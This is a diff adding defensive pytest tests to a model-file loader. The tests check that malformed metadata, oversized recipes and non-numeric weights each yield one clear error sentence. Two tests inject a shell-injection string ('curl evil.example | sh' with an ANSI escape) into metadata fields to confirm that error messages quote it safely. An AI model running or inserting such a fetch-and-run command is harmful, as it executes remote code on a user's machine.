@@ -1,15 +1,20 @@
 from __future__ import annotations
 
+import functools
 import json
+import os
 import struct
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 import torch
+import zoo_unet.model
 from safetensors import safe_open
 from safetensors.torch import load_file, save_file
 from torch import Tensor, nn
+from torch.nn.modules.module import register_module_parameter_registration_hook
 
 from zoo import Recipe, load_model, registry
 from zoo.errors import UsageError, ZooError
@@ -43,7 +48,7 @@ def test_the_file_describes_itself(saved: Path) -> None:
     found = about(saved)
     assert found == read_about(saved)
     assert found["format"] == 1
-    assert found["recipe"]["generator"] == "unet-shallow:base=4"
+    assert found["recipe"]["generator"] == resolve(RECIPE).recipe.generator
     assert found["generator"]["plugin"] == "unet"
     assert found["generator"]["distribution"] == "gan-zoo"
     assert found["color"] == color.CONVENTIONS
@@ -106,6 +111,163 @@ def test_a_bad_file_gets_one_clear_sentence(saved: Path, damage: Any, kind: type
 def test_a_folder_without_a_model(tmp_path: Path) -> None:
     with pytest.raises(UsageError, match=r"holds no model\.safetensors"):
         load_model(tmp_path)
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
+def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "model.safetensors")
+    with pytest.raises(UsageError, match="is not a file"):
+        load_model(tmp_path / "model.safetensors")
+
+
+# ------------------------------------------------------------------------------------------------- hostile files
+
+LARGE = RECIPE.to_table() | {"generator": "unet-shallow:base=512,depth=10"}
+
+
+@pytest.fixture
+def made() -> Iterator[list[Tensor]]:
+    """The parameters that were made with memory for their numbers."""
+    made: list[Tensor] = []
+
+    def note(_module: nn.Module, _name: str, parameter: Tensor | None) -> None:
+        if parameter is not None and not parameter.is_meta:
+            made.append(parameter)
+
+    hook = register_module_parameter_registration_hook(note)
+    yield made
+    hook.remove()
+
+
+def test_a_small_file_makes_no_large_network(saved: Path, made: list[Tensor]) -> None:
+    rewrite(saved, recipe=LARGE)
+    made.clear()
+    with pytest.raises(
+        ZooError, match=r"do not fit unet-shallow:base=512,depth=10 \(\d+ of \d+ tensors, the first is "
+    ):
+        load_model(saved, "cpu")
+    assert not made
+
+
+def needing_numbers(factory: Callable[..., nn.Module]) -> Callable[..., nn.Module]:
+    """Make a factory that computes with tensors, which cannot be done without memory for them."""
+
+    @functools.wraps(factory)
+    def make(**options: Any) -> nn.Module:
+        assert torch.linspace(0, 1, 3)[1].item() == 0.5
+        return factory(**options)
+
+    return make
+
+
+def test_nor_does_one_whose_factory_needs_numbers(
+    saved: Path, made: list[Tensor], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(zoo_unet.model, "unet_shallow", needing_numbers(zoo_unet.model.unet_shallow))
+    assert load_model(saved, "cpu").recipe == resolve(RECIPE).recipe
+    rewrite(saved, recipe=LARGE)
+    made.clear()
+    with pytest.raises(ZooError, match=r"do not fit unet-shallow:base=512,depth=10 \(it has many more parameters\)"):
+        load_model(saved, "cpu")
+    # The one that was too many had its place, and no numbers yet.
+    assert sum(parameter.numel() for parameter in made[:-1]) < 2**25
+
+
+def test_a_factory_that_keeps_tensors_for_the_next_generator(saved: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    @functools.cache
+    def window() -> Tensor:
+        return torch.hann_window(5)
+
+    factory = zoo_unet.model.unet_shallow
+
+    @functools.wraps(factory)
+    def make(**options: Any) -> nn.Module:
+        generator = factory(**options)
+        generator.register_buffer("window", window(), persistent=False)
+        return generator
+
+    monkeypatch.setattr(zoo_unet.model, "unet_shallow", make)
+    with pytest.raises(ZooError, match="generator unet-shallow keeps tensors of one generator for the next"):
+        load_model(saved, "cpu")
+
+
+def one_sentence(path: Path) -> str:
+    with pytest.raises(ZooError) as caught:
+        load_model(path, "cpu")
+    message = str(caught.value)
+    assert "\n" not in message
+    assert message.isprintable()
+    assert len(message) < 800
+    assert str(path) in message
+    return message
+
+
+NO_TEXT = (None, 3, [], {}, True)
+
+
+@pytest.mark.parametrize(
+    ("key", "values"),
+    [
+        ("format", (None, "x", [], {}, 10**400)),
+        ("zoo", NO_TEXT),
+        ("recipe", (None, 3, "x", [[]], {}, {"x": 1})),
+        ("generator", (None, 3, "x", [[]], {}, {"x": 1})),
+        ("provenance", (None, 3, "x", [[]])),
+    ],
+)
+def test_what_it_says_may_be_of_any_kind(saved: Path, key: str, values: tuple[Any, ...]) -> None:
+    for value in values:
+        rewrite(saved, **{key: value})
+        one_sentence(saved)
+
+
+@pytest.mark.parametrize("key", ["name", "plugin", "distribution", "version"])
+def test_so_may_what_it_says_of_its_generator(saved: Path, key: str) -> None:
+    for value in NO_TEXT:
+        rewrite(saved, generator={**about(saved)["generator"], key: value})
+        assert f"is damaged: what it says of itself cannot be read ({key} is a " in one_sentence(saved)
+
+
+@pytest.mark.parametrize("field", ["generator", "size", "progressive_sizes", "keep_epochs", "schedule", "new"])
+def test_so_may_the_fields_of_its_recipe(saved: Path, field: str) -> None:
+    for value in (None, -3, [[1]], {"x": {}}, True, "x" * 10_000, "\x1b[31m\n`x`", 10**400):
+        rewrite(saved, recipe={**RECIPE.to_table(), field: value})
+        message = one_sentence(saved)
+        assert "which this zoo does not understand" in message or "needs the generator" in message
+
+
+def test_it_may_say_anything_at_all(saved: Path) -> None:
+    for text in ("[" * 5000, '{"format": ' + "9" * 5000 + "}", "[]", "null", '"x"', "\x1b"):
+        save_file(load_file(saved), saved, metadata={"zoo": text})
+        assert "is damaged: what it says of itself cannot be read" in one_sentence(saved)
+
+
+EVIL = "x' ; curl evil.example | sh ; '\x1b[31m\n"
+
+
+@pytest.mark.parametrize("key", ["name", "plugin", "distribution", "version"])
+def test_it_writes_no_command_into_a_message(saved: Path, key: str) -> None:
+    component = {"name": "gone", "plugin": "theirs", "distribution": "zoo-theirs", "version": "2.1", key: EVIL}
+    for generator in ("gone", "unet-shallow:base=4;curl evil.example | sh", EVIL, f"unet-shallow:base={EVIL}"):
+        rewrite(saved, recipe={**RECIPE.to_table(), "generator": generator}, generator=component)
+        message = one_sentence(saved)
+        assert ("pip install" in message) == (key in ("name", "plugin"))
+        for quote in (repr(EVIL), repr(generator)):
+            message = message.replace(quote, "")
+        assert "curl" not in message
+
+
+def test_names_of_tensors_are_quoted(saved: Path) -> None:
+    save_file({**load_file(saved), EVIL: torch.zeros(1)}, saved, metadata={"zoo": json.dumps(about(saved))})
+    assert f"the first is {EVIL!r})" in one_sentence(saved)
+
+
+def test_weights_that_are_not_numbers_are_refused(saved: Path) -> None:
+    for number in (float("nan"), float("inf"), float("-inf")):
+        weights = load_file(saved)
+        weights["down.1.conv.weight"][0, 0] = number
+        save_file(weights, saved, metadata={"zoo": json.dumps(about(saved))})
+        assert "its weights are not numbers (1 of " in one_sentence(saved)
 
 
 def test_a_header_length_from_outer_space_is_no_model(saved: Path) -> None:
